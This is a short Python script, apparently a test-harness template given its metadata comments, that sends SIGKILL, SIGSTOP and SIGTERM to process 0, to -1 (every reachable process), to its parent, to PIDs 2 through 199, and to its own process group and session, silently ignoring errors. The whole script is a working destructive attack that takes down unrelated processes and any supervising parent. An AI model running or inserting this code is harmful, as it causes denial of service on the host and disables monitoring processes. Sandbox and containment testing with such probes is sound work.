# Signals to every process that has a number, to groups, and to the parent.
#! class = "template"
#! seen = ["failed"]
#! hollow = true

# %% after setup
import os
import signal

for target in (0, -1, os.getppid(), *range(2, 200), -os.getpgid(0), -os.getsid(0)):
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try:
            os.kill(target, number)
        except OSError:
            pass
